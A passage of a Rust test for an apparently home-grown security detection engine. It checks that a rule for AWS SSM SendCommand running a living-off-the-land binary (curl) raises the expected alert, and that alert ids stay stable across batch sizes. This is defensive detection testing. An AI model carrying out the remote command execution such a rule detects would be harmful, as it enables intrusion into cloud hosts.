    let ssm = by_slug(&alerts, "ssm-sendcommand-lolbin-execution");
    assert_eq!(
        ssm["group"]["ferrule.ssm.command_id"],
        "7d3c9b1e-2f4a-4c6d-9e8f-0a1b2c3d4e5f"
    );
    assert_eq!(ssm["fields"]["ferrule.ssm.ssm_shell_count"], 1);
    assert_eq!(texts(&ssm["fields"]["process.name"]), ["curl"]);

    let summary = String::from_utf8_lossy(&output.stderr);
    assert!(
        summary.contains("19 events read, 0 records rejected, 6 alerts, 0 rule failures"),
        "{summary}"
    );

    // The same alerts, with the same ids, however the input is batched.
    let again = run_scenario(&rules, &[]);
    assert_eq!(
        again.stdout, output.stdout,
        "the same input gives the same alerts and ids"
    );
    let ids = |alerts: &[Value]| {
        let mut ids: Vec<String> = alerts
            .iter()
            .map(|a| a["id"].as_str().unwrap().to_owned())
            .collect();
        ids.sort();
        ids
    };
    for size in ["1", "3"] {
        let batched = stdout_alerts(&run_scenario(&rules, &["--batch-size", size]));
        assert_eq!(ids(&batched), ids(&alerts), "batch size {size}");
    }
}
